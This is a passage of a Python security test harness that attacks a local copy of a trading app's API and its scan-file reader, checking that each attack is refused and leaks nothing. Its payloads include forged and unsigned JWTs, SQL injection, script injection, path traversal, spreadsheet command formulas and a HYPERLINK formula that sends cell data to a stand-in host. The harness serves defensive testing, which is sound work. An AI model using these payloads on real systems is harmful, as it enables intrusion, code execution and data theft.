async def _serve(app: Any) -> AsyncIterator[tuple[str, asyncio.Task[None]]]:
    """The app under uvicorn on a free loopback port, in this event loop."""
    port = free_port()
    config = uvicorn.Config(
        app,
        host="127.0.0.1",
        port=port,
        log_level="warning",
        log_config=None,
        lifespan="off",
        access_log=False,
    )
    server = uvicorn.Server(config)
    task = asyncio.create_task(server.serve())
    deadline = walltime.monotonic() + 15
    while not server.started:
        if task.done() or walltime.monotonic() > deadline:
            raise RuntimeError("the API server did not start")
        await asyncio.sleep(0.01)
    try:
        yield f"http://127.0.0.1:{port}", task
    finally:
        server.should_exit = True
        with suppress(Exception):
            await asyncio.wait_for(task, 30)


def _add_strategy(db: Database, user_id: str, account: str, code: str, name: str) -> None:
    with db.unit_of_work() as s:
        Users(s).ensure_account(user_id, account)
        s.add(
            ThreeTierStrategy(
                user_id=user_id,
                account_no=account,
                buy_intent_key=f"attack-{uuid.uuid4().hex}",
                code=code,
                name=name,
                quantity=10,
                entry_price=70_000,
                entry_date=START.date(),
                stop_loss_price=66_500,
                preserve_price=72_800,
                take_profit_price=75_600,
                held_quantity=10,
                preserve_target=5,
                status=StrategyStatus.ACTIVE,
                armed_at=START,
            )
        )


class ApiWorld:
    """The product's API (vault registrar, gateway prices) with the evening-flow runner replaced by a
    recorder: the flow itself is not under attack here, who may start it is."""

    def __init__(self, sim: RunningSimulator, db: Database, db_url: str, work: Path, tally: Tally) -> None:
        self.sim = sim
        self.db = db
        self.tally = tally
        self.jwt_key = secrets.token_hex(32)
        tally.secrets.add(self.jwt_key)
        settings = Settings(
            _env_file=None,
            database_url=db_url,
            data_dir=work / "api",
            broker_base_url=sim.base_url,
            local_master_key_path=work / "api" / "master.key",
            jwt_signing_key=SecretStr(self.jwt_key),
            broker_rate_per_second=2000.0,
            broker_burst=2000,
            origin="api",
        )
        # its own master key, made up front: the database already holds keys the gateway world sealed under
        # another one, and a start that finds sealed keys without its master key is refused
        load_or_create_key(settings.local_master_key_path)
        self.access = GatewayAccess(settings, db, clock=sim.engine.read_clock)
        self.executed: list[sc.ExecuteRequest] = []

        async def execute(req: sc.ExecuteRequest) -> sc.ExecuteResponse:
            self.executed.append(req)
            return sc.ExecuteResponse(
                success=False,
                executed_orders=0,
                total_investment=0,
                strategies_created=0,
                message="flow run started",
                run_id="attack-run",
            )

        runtime = Runtime(settings, db, sim.engine.read_clock, self.access)
        self.app = create_app(dataclasses.replace(build_deps(runtime), execute=execute))
        # every user of the harness signs up from the one in-process client: no per-client sign-up limit
        self.app.state.deps.limits.signups = 10**6
        self.http: httpx.AsyncClient
        self.a: ApiUser
        self.b: ApiUser
        self.op: ApiUser
        self.b_markers: list[str] = []
        self.max_seconds = 0.0
        self._n = itertools.count(1)

    async def send(
        self,
        method: str,
        path: str,
        *,
        headers: dict[str, str] | None = None,
        json_body: Any = None,
        content: bytes | None = None,
        params: dict[str, str] | None = None,
        wait: float = 30.0,
    ) -> tuple[int | None, str]:
        """One request; the status (None when no answer came) and the body or the failure."""
        started = walltime.monotonic()
        try:
            r = await self.http.request(
                method, path, headers=headers, json=json_body, content=content, params=params, timeout=wait
            )
        except Exception as exc:
            return None, f"{type(exc).__name__}: {str(exc)[:200]}"
        finally:
            self.max_seconds = max(self.max_seconds, walltime.monotonic() - started)
        self.tally.texts.append(r.text[:200_000])
        return r.status_code, r.text

    async def user(self, tag: str, *, cash: int | None = None, operator: bool = False) -> ApiUser:
        """Sign up and log in (the role is set before the login); register a broker key when ``cash``."""
        email = f"{tag}-{uuid.uuid4().hex[:8]}@example.com"
        password = f"pw-{secrets.token_hex(12)}"
        self.tally.secrets.add(password)
        r = await self.http.post("/api/auth/signup", json={"email": email, "password": password})
        if r.status_code != 201:
            raise RuntimeError(f"signup failed: {r.status_code} {r.text}")
        with self.db.unit_of_work() as s:  # sign-up answers the same for every email: no user id in it
            user_id = str(s.scalar(sa.select(User.user_id).where(User.email == email)))
        if operator:
            with self.db.unit_of_work() as s:
                s.execute(sa.update(User).where(User.user_id == user_id).values(role="operator"))
        r = await self.http.post("/api/auth/login", json={"email": email, "password": password})
        if r.status_code != 200:
            raise RuntimeError(f"login failed: {r.status_code} {r.text}")
        token = str(r.json()["access_token"])
        self.tally.secrets.add(token)
        account = None
        if cash is not None:
            account = f"{5_500_000_000 + next(self._n):010d}"
            self.sim.admin.create_account(account, tag, cash)
            key = self.new_key(account)
            body = {**key, "account_no": account, "daily_limit": 2_000_000}
            r = await self.http.post(
                "/api/user/register-api", json=body, headers={"Authorization": f"Bearer {token}"}
            )
            if r.status_code != 200:
                raise RuntimeError(f"key registration failed: {r.status_code} {r.text}")
        return ApiUser(email, user_id, token, account)

    def new_key(self, account: str) -> dict[str, str]:
        key = self.sim.admin.create_appkey(account)
        self.tally.secrets.update((key["appkey"], key["secretkey"]))
        return {"app_key": key["appkey"], "app_secret": key["secretkey"]}

    def b_state(self) -> tuple[Any, ...]:
        with self.db.unit_of_work() as s:
            row = s.scalars(sa.select(UserApiKey).where(UserApiKey.account_no == self.b.account)).one()
            return (
                row.user_id,
                row.api_status,
                row.key_version,
                row.is_auto_trading_enabled,
                row.app_key_encrypted,
                row.daily_limit,
            )

    def leaked(self, text: str) -> list[str]:
        return [m for m in self.b_markers if m in text]

    async def aclose(self) -> None:
        await self.access.aclose()


def _execute_body(rng: random.Random) -> dict[str, Any]:
    rows = [
        {
            "code": c,
            "name": n,
            "score": round(rng.uniform(7.0, 9.9), 1),
            "current_price": p,
            "reasons": ["거래량 급증"],
        }
        for c, n, p in rng.sample(
            [(CODE, "삼성전자", 70_000), (OTHER_CODE, "SK하이닉스", 185_000), ("035720", "카카오", 41_250)],
            rng.randint(1, 3),
        )
    ]
    return {
        "scan_results": rows,
        "config": {"max_investment": 1_000_000, "max_stocks": 1, "max_per_stock": 500_000},
        "trading_day": START.date().isoformat(),
        "dry_run": rng.random() < 0.5,
    }


async def api_cross_user(api: ApiWorld, rng: random.Random) -> None:
    """User A's session on user B's key, account and strategies: refused, nothing of B in any answer."""
    kind = "api_cross_user"
    a, b = api.a, api.b
    assert b.account is not None
    cases: list[tuple[str, str, str, dict[str, Any], set[int]]] = [
        ("B's key status", "GET", "/api/user/api-status", {"params": {"account_no": b.account}}, {404}),
        (
            "SQL in account_no",
            "GET",
            "/api/user/api-status",
            {"params": {"account_no": f"{b.account}' OR '1'='1"}},
            {404, 422},
        ),
        ("A's account list", "GET", "/api/user/accounts", {}, {200}),
        (
            "A's strategies",
            "GET",
            "/api/auto-trading/three-tier-strategies",
            {"params": {"include_closed": "true"}},
            {200},
        ),
        ("A's open strategies", "GET", "/api/auto-trading/three-tier-strategies", {}, {200}),
        (
            "turn B's auto-trading off",
            "POST",
            "/api/user/auto-trading",
            {"json_body": {"account_no": b.account, "enabled": False}},
            {404},
        ),
        (
            "turn B's auto-trading on",
            "POST",
            "/api/user/auto-trading",
            {"json_body": {"account_no": b.account, "enabled": True}},
            {404},
        ),
        ("delete B's key", "DELETE", f"/api/user/api-key/{b.account}", {}, {404}),
        ("security events as a plain user", "GET", "/api/admin/security-events", {}, {403}),
    ]
    assert a.account is not None
    for _ in range(rng.randint(1, 2)):  # these go to the broker with a real key A holds
        cases.append(
            (
                "rotate B's key",
                "POST",
                "/api/user/api-key/rotate",
                {"json_body": {"account_no": b.account, **api.new_key(a.account)}},
                {404},
            )
        )
        cases.append(
            (
                "register B's account with A's key",
                "POST",
                "/api/user/register-api",
                {"json_body": {"account_no": b.account, "daily_limit": 5_000_000, **api.new_key(a.account)}},
                {400, 404, 409},
            )
        )
    own = {"A's account list": a.account, "A's strategies": "에이전자", "A's open strategies": "에이전자"}
    picks = cases + rng.sample(cases, 4)
    rng.shuffle(picks)
    for what, method, path, extra, expected in picks:
        before = api.b_state()
        status, text = await api.send(method, path, headers=a.auth, **extra)
        bad = None
        if status is None or status >= 500:
            bad = f"no clean answer: {status} {text[:120]}"
        elif 200 <= status < 300 and not expected & {200}:
            bad = f"allowed ({status})"
        elif what in own and own[what] not in text:
            bad = f"A's own data is missing ({status}): the check would prove nothing"
        elif api.leaked(text):
            bad = f"B's data in the answer: {api.leaked(text)}"
        elif api.b_state() != before:
            bad = "B's key changed"
        api.tally.record(kind, what, bad, f"HTTP {status}")


async def api_bad_tokens(api: ApiWorld, rng: random.Random) -> None:
    """Missing, forged, tampered, expired, not yet valid, unsigned and wrong-type session tokens: 401."""
    kind = "api_bad_session_token"
    a, b = api.a, api.b
    key = api.jwt_key.encode()
    now = int(walltime.time())
    good = _claims_of(a.token)
    assert b.account is not None
    bearer: dict[str, str | None] = {
        "no token": None,
        "bearer without a token": "Bearer",
        "basic credentials": "Basic " + base64.b64encode(b"admin:admin").decode(),
        "three dots": "Bearer a.b.c",
        "random text": "Bearer " + secrets.token_urlsafe(rng.randint(8, 300)),
        "signed with another key": "Bearer "
        + jwt.encode({**good, "sub": b.user_id, "role": "operator"}, os.urandom(32), algorithm="HS256"),
        "claims altered": "Bearer " + _altered(a.token, sub=b.user_id, role="operator"),
        "expired": "Bearer "
        + jwt.encode({**good, "iat": now - 7200, "exp": now - 3600}, key, algorithm="HS256"),
        "not yet valid": "Bearer " + jwt.encode({**good, "nbf": now + 3600}, key, algorithm="HS256"),
        "alg none": "Bearer " + _unsigned({**good, "sub": b.user_id, "role": "operator"}),
        "other token type": "Bearer " + jwt.encode({**good, "typ": "refresh"}, key, algorithm="HS256"),
        "no token type": "Bearer "
        + jwt.encode({k: v for k, v in good.items() if k != "typ"}, key, algorithm="HS256"),
        "no expiry": "Bearer "
        + jwt.encode({k: v for k, v in good.items() if k != "exp"}, key, algorithm="HS256"),
        "gateway temporary token": "Bearer " + api.access.tokens.issue(b.user_id, b.account, TRADE),
        "huge": "Bearer " + "x" * 60_000,
    }
    targets: list[tuple[str, str, Any]] = [
        ("GET", "/api/user/api-status", None),
        ("GET", "/api/user/accounts", None),
        ("GET", "/api/auto-trading/three-tier-strategies", None),
        ("GET", "/api/admin/security-events", None),
        ("POST", "/api/user/auto-trading", {"account_no": b.account, "enabled": False}),
        ("DELETE", f"/api/user/api-key/{b.account}", None),
        ("POST", "/api/auto-trading/execute", _execute_body(rng)),
        (
            "POST",
            "/api/user/api-key/rotate",
            {"account_no": b.account, "app_key": "k" * 20, "app_secret": "s" * 20},
        ),
    ]
    names = sorted(bearer)
    for name in names + rng.sample(names, 5):
        method, path, body = rng.choice(targets)
        headers = {} if bearer[name] is None else {"Authorization": str(bearer[name])}
        before, runs = api.b_state(), len(api.executed)
        status, text = await api.send(method, path, headers=headers, json_body=body)
        expected = {400, 401, 413, 431} if name == "huge" else {401}
        bad = None
        if status not in expected:
            bad = f"{method} {path} answered {status}: {text[:120]}"
        elif api.leaked(text) or api.b_state() != before or len(api.executed) != runs:
            bad = f"{method} {path}: B's data or state touched"
        api.tally.record(kind, f"{name} on {method} {path}", bad, f"HTTP {status}")


async def api_operator_only(api: ApiWorld, rng: random.Random) -> None:
    """Plain users on the operator's operations: 403, and the evening flow never started."""
    kind = "api_operator_only"
    for _ in range(rng.randint(3, 5)):
        user = rng.choice([api.a, api.b])
        runs = len(api.executed)
        status, _text = await api.send(
            "POST", "/api/auto-trading/execute", headers=user.auth, json_body=_execute_body(rng)
        )
        bad = None if status == 403 and len(api.executed) == runs else f"answered {status}, runs {runs}"
        api.tally.record(kind, "plain user starts the evening flow", bad, f"HTTP {status}")
    for limit in rng.sample(["1", "10", "100", "1000"], 3):
        status, _text = await api.send(
            "GET",
            "/api/admin/security-events",
            headers=rng.choice([api.a, api.b]).auth,
            params={"limit": limit},
        )
        api.tally.record(
            kind,
            "plain user reads security events",
            None if status == 403 else f"answered {status}",
            f"HTTP {status}",
        )


# Body fields of each POST route: (dotted path, kind, required).
ROUTE_FIELDS: dict[str, list[tuple[str, str, bool]]] = {
    "/api/auth/signup": [("email", "text", True), ("password", "secret", True)],
    "/api/auth/login": [("email", "text", True), ("password", "secret", True)],
    "/api/user/register-api": [
        ("app_key", "secret", True),
        ("app_secret", "secret", True),
        ("account_no", "text", True),
        ("daily_limit", "int", False),
    ],
    "/api/user/auto-trading": [("account_no", "text", True), ("enabled", "bool", True)],
    "/api/user/api-key/rotate": [
        ("account_no", "text", True),
        ("app_key", "secret", True),
        ("app_secret", "secret", True),
    ],
    "/api/auto-trading/execute": [
        ("scan_results", "list", True),
        ("config", "object", False),
        ("trading_day", "date", False),
        ("dry_run", "bool", False),
        ("scan_results.0.code", "text", True),
        ("scan_results.0.name", "text", True),
        ("scan_results.0.score", "float", True),
        ("scan_results.0.current_price", "int", True),
        ("scan_results.0.reasons", "list", False),
        ("config.max_investment", "int", False),
        ("config.max_stocks", "int", False),
        ("config.max_per_stock", "int", False),
    ],
}
WRONG_TYPES: dict[str, list[Any]] = {
    "text": [123, True, None, [], {}, 1.5],
    "secret": [12345678901, False, None, ["x" * 10], {"k": "v"}],
    "int": ["abc", None, [], {}, 1.5, "1e3"],
    "float": ["high", None, [], {}],
    "bool": ["maybe", 2, [], {}, None, 1.5],
    "list": ["x", 5, {}, True, None],
    "object": ["x", 5, [], True, None],
    "date": ["not a date", "2026-13-45", [], {}, 12.5],
}
HUGE = [
    10**30,
    -(10**30),
    2**63,
    -(2**63) - 1,
    1e308,
    "RAW:1e400",
    "RAW:-1e400",
    "RAW:NaN",
    "RAW:Infinity",
    "RAW:" + "9" * 5_000,
]
JUNK_TEXT = [
    "a\x00b",
    "\u202egnp.exe",
    "\u200b",
    "📈" * 50,
    "e\u0301" * 100,
    "\uffff",
    "\ufeff삼성전자",
    "' OR '1'='1",
    "<script>alert(1)</script>",
    "=cmd|' /C calc'!A0",
    "../../etc/passwd",
]
NOT_UNICODE = ["\ud800", "x\udfffy", "\udbff"]
MUST_REFUSE = {"malformed", "wrong_type", "missing", "not_unicode"}


def _set(body: Any, path: str, value: Any, *, drop: bool = False) -> None:
    parts = path.split(".")
    for p in parts[:-1]:
        body = body[int(p)] if isinstance(body, list) else body[p]
    last: Any = int(parts[-1]) if isinstance(body, list) else parts[-1]
    if drop:
        del body[last]
    else:
        body[last] = value


def _encoded(body: Any, raw: dict[str, str]) -> bytes:
    text = json.dumps(body)
    for marker, literal in raw.items():
        text = text.replace(json.dumps(marker), literal)
    return text.encode()


def _template(api: ApiWorld, path: str, rng: random.Random) -> tuple[dict[str, Any], list[str]]:
    """A valid body for the route and the secrets in it."""
    assert api.op is not None and api.a.account is not None
    password, key, secret = (f"{t}-{secrets.token_hex(10)}" for t in ("pw", "PSkey", "secret"))
    bodies: dict[str, dict[str, Any]] = {
        "/api/auth/signup": {"email": f"fz{next(api._n)}@example.com", "password": password},
        "/api/auth/login": {"email": api.a.email, "password": password},
        "/api/user/register-api": {
            "app_key": key,
            "app_secret": secret,
            "account_no": api.a.account,
            "daily_limit": 1_000_000,
        },
        "/api/user/auto-trading": {"account_no": api.a.account, "enabled": False},
        "/api/user/api-key/rotate": {"account_no": api.a.account, "app_key": key, "app_secret": secret},
        "/api/auto-trading/execute": _execute_body(rng),
    }
    return bodies.get(path, {}), [password, key, secret]


def _mutations(path: str, template: dict[str, Any], rng: random.Random) -> list[tuple[str, str, bytes, str]]:
    """(category, description, content, content type) for one route, every category at least once."""
    fields = ROUTE_FIELDS.get(path, [])
    raw = json.dumps(template).encode()
    out: list[tuple[str, str, bytes, str]] = []
    ctype = "application/json"
    malformed = [
        ("truncated", raw[: rng.randint(1, max(1, len(raw) - 1))]),
        ("trailing garbage", raw + b" garbage"),
        ("single quotes", raw.replace(b'"', b"'")),
        ("trailing comma", raw[:-1] + b",}"),
        ("not UTF-8", b"\xff\xfe\xfd" + raw),
        ("empty", b""),
        ("null", b"null"),
        ("a list", b"[]"),
        ("a string", b'"text"'),
        ("a number", b"123"),
        ("deep nesting", b"[" * 100_000 + b"]" * 100_000),
        ("unterminated string", b'{"' + b"a" * 1000),
    ]
    for what, content in malformed:
        out.append(("malformed", what, content, ctype))
    out.append(("malformed", "JSON sent as text/plain", raw, "text/plain"))
    out.append(
        ("malformed", "form-encoded", b"email=a%40b.c&password=x", "application/x-www-form-urlencoded")
    )
    if not fields:
        return out

    def variant(category: str, what: str, change: Callable[[dict[str, Any], dict[str, str]], None]) -> None:
        body = json.loads(raw)
        literals: dict[str, str] = {}
        change(body, literals)
        out.append((category, what, _encoded(body, literals), ctype))

    def put(path_: str, value: Any) -> Callable[[dict[str, Any], dict[str, str]], None]:
        def change(body: dict[str, Any], literals: dict[str, str]) -> None:
            if isinstance(value, str) and value.startswith("RAW:"):
                marker = f"__raw_{uuid.uuid4().hex}__"
                literals[marker] = value[4:]
                _set(body, path_, marker)
            else:
                _set(body, path_, value)

        return change

    numbers = [f for f in fields if f[1] in ("int", "float")] or fields
    texts = [f for f in fields if f[1] in ("text", "secret")] or fields
    for _ in range(2):
        name, kind_, _req = rng.choice(fields)
        wrong = rng.choice(WRONG_TYPES[kind_])
        variant("wrong_type", f"{name}={wrong!r:.20}", put(name, wrong))
    for name, _kind, required in fields:
        if required:
            variant("missing", f"no {name}", lambda b, _l, n=name: _set(b, n, None, drop=True))
    for _ in range(3):
        name = rng.choice(numbers)[0]
        value = rng.choice(HUGE)
        variant("huge_number", f"{name}={str(value)[:24]}", put(name, value))
    for _ in range(2):
        name = rng.choice(texts)[0]
        n = rng.choice([300, 10_000, 1_000_000])
        variant("long_string", f"{name} of {n:,} characters", put(name, "x" * n))
    for _ in range(2):
        name = rng.choice(texts)[0]
        variant("odd_text", f"{name} junk", put(name, rng.choice(JUNK_TEXT)))
        variant(
            "not_unicode", f"{name} with an unpaired surrogate", put(name, rng.choice(NOT_UNICODE) + "abc")
        )
    return out


async def api_malformed_bodies(api: ApiWorld, rng: random.Random) -> list[str]:
    """Every POST/PUT/PATCH route of the app with broken bodies (as the operator, so that every body is
    read): malformed JSON and wrong types are refused with a 4xx; nothing answers 5xx or echoes a secret."""
    from fastapi.routing import APIRoute

    kind = "api_malformed_body"
    routes = sorted(
        r.path
        for r in api.app.routes
        if isinstance(r, APIRoute) and set(r.methods or ()) & {"POST", "PUT", "PATCH"}
        and r.body_field is not None  # a route that reads no body (logout) has no body to break
    )
    for path in routes:
        if path not in ROUTE_FIELDS:
            api.tally.notes.append(f"{path}: no field list in the attacks; only malformed JSON was tried")
        method = next(
            m
            for m in ("POST", "PUT", "PATCH")
            if any(
                isinstance(r, APIRoute) and r.path == path and m in (r.methods or ()) for r in api.app.routes
            )
        )
        template, body_secrets = _template(api, path, rng)
        for category, what, content, ctype in _mutations(path, template, rng):
            status, text = await api.send(
                method, path, content=content, headers={**api.op.auth, "Content-Type": ctype}
            )
            bad = None
            if status is None or status >= 500:
                bad = f"no clean answer: {status} {text[:120]}"
            elif 200 <= status < 300 and category in MUST_REFUSE:
                bad = f"accepted ({status})"
            if status is not None and 200 <= status < 300:
                api.tally.accepted[category] += 1
            elif [s for s in body_secrets if s in text]:
                bad = "a secret of the request is echoed in the answer"
            api.tally.record(kind, f"{method} {path} {category}: {what}", bad, f"HTTP {status}")
    return routes


async def api_malformed_parameters(api: ApiWorld, rng: random.Random) -> None:
    """Query and path parameters with NUL, undecodable bytes, markup, SQL and very long text: a 4xx."""
    junk = [
        "12\x0034",
        "%ED%A0%80",
        "<b>1</b>",
        "1' OR '1'='1",
        "9" * 10_000,
        "../../etc/passwd",
        "\u202e123",
    ]
    for value in junk + rng.sample(junk, 3):
        for what, method, path, params in (
            ("query", "GET", "/api/user/api-status", {"account_no": value}),
            ("path", "DELETE", f"/api/user/api-key/{quote(value, safe='%')}", None),
            ("query", "GET", "/api/admin/security-events", {"limit": value}),
        ):
            status, text = await api.send(method, path, headers=api.op.auth, params=params)
            bad = None if status is not None and 400 <= status < 500 else f"answered {status}: {text[:120]}"
            api.tally.record("api_malformed_body", f"{what} parameter {value[:20]!r} on {path[:40]}", bad,
                             f"HTTP {status}")  # fmt: skip


async def api_oversized_bodies(api: ApiWorld, routes: list[str], rng: random.Random) -> None:
    """Bodies of several MB on every POST route, signed in and anonymous: 413 before they are read."""
    kind = "api_oversized_body"
    statuses: Counter[int | None] = Counter()
    for path in routes:
        template, _ = _template(api, path, rng)
        fields = [f for f, k, _ in ROUTE_FIELDS.get(path, []) if k in ("text", "secret")]
        for variant in ("long field", "long array", "anonymous"):
            size = rng.choice([3, 5, 8]) * 1024 * 1024
            if variant == "long array":
                content = b"[" + b"0," * (size // 2) + b"0]"
            else:
                body = json.loads(json.dumps(template))
                if fields:
                    _set(body, rng.choice(fields), "x" * size)
                else:
                    body["filler"] = "x" * size
                content = json.dumps(body).encode()
            headers = {"Content-Type": "application/json"} | ({} if variant == "anonymous" else api.op.auth)
            started = walltime.monotonic()
            status, text = await api.send("POST", path, content=content, headers=headers, wait=30)
            seconds = walltime.monotonic() - started
            statuses[status] += 1
            bad = None
            # Refused before it is read: 413, or the server closed the connection on a client still sending
            # (HTTP allows the early answer; a client busy writing may only see the close).
            closed = status is None and text.startswith(("ReadError", "WriteError", "RemoteProtocolError"))
            if not (status == 413 or closed) or seconds > 5:
                bad = f"no 413 after {seconds:.1f}s: {status} {text[:120]}"
            elif len(text) > 100_000:
                bad = f"the answer echoes the body ({len(text):,} characters)"
            api.tally.record(
                kind, f"{variant} of {len(content) / 2**20:.1f} MB on {path}", bad, f"HTTP {status}"
            )


async def api_attacks(api: ApiWorld, rng: random.Random, progress: Callable[[str], None]) -> None:
    async with _serve(api.app) as (base_url, server), httpx.AsyncClient(base_url=base_url) as http:
        api.http = http
        api.a = await api.user("alice", cash=31_000_000)
        api.b = await api.user("bob", cash=47_000_000)
        api.op = await api.user("ops", operator=True)
        assert api.a.account is not None and api.b.account is not None
        b_strategy = f"비밀종목-{secrets.token_hex(3)}"
        _add_strategy(api.db, api.a.user_id, api.a.account, CODE, "에이전자")
        _add_strategy(api.db, api.b.user_id, api.b.account, OTHER_CODE, b_strategy)
        api.b_markers = [api.b.account, api.b.user_id, api.b.email, b_strategy, "47,000,000", "47000000"]
        for name, attack in [
            ("cross-user", api_cross_user),
            ("session tokens", api_bad_tokens),
            ("operator only", api_operator_only),
        ]:
            started = walltime.monotonic()
            await attack(api, rng)
            progress(f"api {name}: {walltime.monotonic() - started:.1f}s")
        started = walltime.monotonic()
        routes = await api_malformed_bodies(api, rng)
        await api_malformed_parameters(api, rng)
        await api_oversized_bodies(api, routes, rng)
        progress(f"api bodies: {walltime.monotonic() - started:.1f}s")
        status, _ = await api.send("GET", "/health")
        alive = status == 200 and not server.done()
        api.tally.record(
            "api_malformed_body", "server alive after the attacks", None if alive else f"health {status}"
        )


# --- scan intake -----------------------------------------------------------------------------------------

SCAN_DAY = date(2026, 11, 25)
SCAN_NOW = datetime(2026, 11, 25, 15, 40, tzinfo=KST)


def _scan_rows(rng: random.Random, n: int) -> list[dict[str, Any]]:
    return [
        {
            "code": f"{100_000 + i:06d}",
            "name": f"종목{i}",
            "score": round(rng.uniform(7.0, 9.9), 2),
            "current_price": 10_000 + 10 * (i % 900),
            "reasons": ["거래량 급증"],
        }
        for i in range(n)
    ]


def _scan(rows: list[dict[str, Any]], **meta: Any) -> dict[str, Any]:
    return {
        "trading_day": SCAN_DAY.isoformat(),
        "generated_at": "2026-11-25T15:36:00+09:00",
        **meta,
        "scan_results": rows,
    }


def _payload_reader(payload: dict[str, Any]) -> Callable[[], Any]:
    return lambda: parse_scan_payload(payload)


def _judge_scan(tally: Tally, kind: str, what: str, read: Callable[[], Any], timeout: float = 20.0) -> None:
    """``read`` gives a RawScan: it must raise ScanFormatError or be rejected whole with a report."""
    outcome: list[Any] = []

    def run() -> None:
        try:
            outcome.append(
                validate_scan(read(), trading_day=SCAN_DAY, now=SCAN_NOW, max_age=timedelta(hours=3))
            )
        except BaseException as exc:
            outcome.append(exc)

    worker = threading.Thread(target=run, name="attack-scan", daemon=True)  # a hang must not hang the suite
    worker.start()
    worker.join(timeout)
    bad = refusal = None
    shown = ""  # what an operator sees: the error or the report
    if not outcome:
        bad = f"no answer in {timeout:g}s"
    elif isinstance(outcome[0], ScanFormatError):
        refusal = shown = f"ScanFormatError: {outcome[0]}"
    elif isinstance(outcome[0], BaseException):
        bad = f"unhandled {type(outcome[0]).__name__}: {str(outcome[0])[:120]}"
    elif (
        outcome[0].success
        or outcome[0].rows
        or not outcome[0].issues
        or "REJECTED" not in outcome[0].report()
    ):
        bad = "accepted" if outcome[0].success else "rejected without a report"
    else:
        refusal = ", ".join(sorted({i.rule for i in outcome[0].issues}))
        shown = outcome[0].report()
    if len(shown) > 5_000:
        bad = f"the refusal echoes the input ({len(shown):,} characters)"
    tally.texts.append(shown)
    tally.record(kind, what, bad, refusal and refusal[:200])


def scan_attacks(folder: Path, tally: Tally, rng: random.Random) -> None:
    """Scans that cannot be read, bad rows among good ones, stale and future scans: each is refused with a
    ScanFormatError or rejected whole with a report; nothing is accepted, nothing raises anything else."""
    folder.mkdir(parents=True, exist_ok=True)
    good = _scan(_scan_rows(rng, 5))
    if not validate_scan(parse_scan_payload(good), trading_day=SCAN_DAY, now=SCAN_NOW).success:
        raise RuntimeError("a good scan is rejected: the scan attacks would prove nothing")

    def from_bytes(content: bytes) -> Callable[[], Any]:
        return lambda: parse_scan_bytes(content, "attack")

    def from_file(name: str, content: bytes) -> Callable[[], Any]:
        path = folder / name
        path.write_bytes(content)
        return lambda: read_scan(path, SCAN_DAY)

    # Unreadable: not text, not JSON or CSV, wrong shapes, too large, special files.
    text = json.dumps(good).encode()
    big_row = json.dumps(_scan_rows(rng, 1)[0]).encode()
    unreadable: list[tuple[str, Callable[[], Any]]] = [
        ("binary garbage", from_bytes(rng.randbytes(rng.randint(16, 4096)))),
        ("binary garbage file", from_file("scan_20261125.json", rng.randbytes(rng.randint(16, 65_536)))),
        ("UTF-16 text", from_bytes(json.dumps(good).encode("utf-16"))),
        ("NUL bytes", from_bytes(b"\x00" * rng.randint(1, 500))),
        ("empty", from_bytes(b"")),
        ("whitespace", from_bytes(b" \n\t " * 10)),
        ("truncated JSON", from_bytes(text[: rng.randint(1, len(text) - 1)])),
        ("deep nesting", from_bytes(b"[" * 200_000 + b"]" * 200_000)),
        ("5,000-digit number", from_bytes(b'{"scan_results": [' + b"9" * 5_000 + b"]}")),
        ("a JSON string", from_bytes(b'"scan"')),
        ("a JSON number", from_bytes(b"42")),
        ("rows that are not objects", from_bytes(b'{"scan_results": [[1, 2], "x", null]}')),
        ("scan_results not a list", from_bytes(json.dumps({"scan_results": {"code": CODE}}).encode())),
        ("object without rows", from_bytes(b'{"trading_day": "2026-11-25"}')),
        (
            "over the size limit",
            from_file("big.json", b"[" + big_row + (b"," + big_row) * (MAX_BYTES // len(big_row)) + b"]"),
        ),
        (
            f"more than {MAX_ROWS:,} rows",
            from_bytes(json.dumps(_scan(_scan_rows(rng, MAX_ROWS + rng.randint(1, 3000)))).encode()),
        ),
        (
            "CSV with a 200 KB field",
            from_bytes(
                b"code,name,score,price,scan_date\n005930," + b"x" * 200_000 + b",8.5,70000,2026-11-25\n"
            ),
        ),
        (
            "CSV mixing days",
            from_bytes(
                b"code,name,score,price,scan_date\n005930,a,8,70000,2026-11-25\n"
                b"000660,b,8,185000,2026-11-24\n"
            ),
        ),
        ("CSV header only", from_bytes(b"code,name,score,price\n")),
        ("CSV of another separator", from_bytes(b"code;name;score;price\n005930;a;8;70000\n")),
        ("no file", lambda: read_scan(folder / "missing.json", SCAN_DAY)),
        ("a folder without scans", lambda: read_scan(folder / "empty", SCAN_DAY)),
    ]
    (folder / "empty").mkdir(exist_ok=True)
    fifo = folder / "fifo" / "scan_20261125.json"
    fifo.parent.mkdir(exist_ok=True)
    if hasattr(os, "mkfifo") and not fifo.exists():
        os.mkfifo(fifo)
        unreadable.append(("a FIFO named like a scan", lambda: read_scan(fifo.parent, SCAN_DAY)))
    device = folder / "device" / "scan_20261125.json"
    device.parent.mkdir(exist_ok=True)
    if Path("/dev/zero").exists() and not device.exists():
        device.symlink_to("/dev/zero")
        unreadable.append(
            ("a link to /dev/zero named like a scan", lambda: read_scan(device.parent, SCAN_DAY))
        )
    for what, read in unreadable:
        _judge_scan(tally, "scan_unreadable", what, read)

    # Bad values: one bad row among good ones, through the API payload and through a file.
    def row(**change: Any) -> Callable[[dict[str, Any]], None]:
        return lambda r: r.update(change)

    def drop(name: str) -> Callable[[dict[str, Any]], None]:
        return lambda r: r.pop(name)

    bad_rows: list[tuple[str, Callable[[dict[str, Any]], None]]] = [
        ("negative price", row(current_price=-rng.randint(1, 10**6))),
        ("zero price", row(current_price=0)),
        ("huge price", row(current_price=rng.choice([10**9, 10**15, 2**63]))),
        ("price off the tick", row(current_price=70_001)),
        ("fractional price", row(current_price=70_000.5)),
        ("price as text", row(current_price="칠만원")),
        ("price true", row(current_price=True)),
        ("score NaN", row(score=math.nan)),
        ("score inf", row(score=math.inf)),
        ("score -inf", row(score=-math.inf)),
        ("score 'NaN'", row(score="NaN")),
        ("score above 10", row(score=10.5)),
        ("score negative", row(score=-1)),
        ("score true", row(score=True)),
        ("no score", drop("score")),
        ("formula name =cmd", row(name="=cmd|' /C calc'!A0")),
        ("formula name +", row(name="+cmd|' /C calc'!A0")),
        ("formula name -", row(name="-cmd|' /C calc'!A0")),
        ("formula name @", row(name="@SUM(1+1)*cmd|' /C calc'!A0")),
        ("formula name hidden behind a number", row(name="-2+3+cmd|' /C calc'!A0")),
        ("formula reason", row(reasons=['=HYPERLINK("http://203.0.113.7/?x="&A1, "보기")'])),
        ("markup name", row(name="<script>alert(1)</script>")),
        ("markup name img", row(name="<img src=x onerror=alert(1)>")),
        ("markup reason", row(reasons=["<iframe src=//203.0.113.7>"])),
        ("NUL in name", row(name="삼성\x00전자")),
        ("bidi override in name", row(name="삼성\u202e자전")),
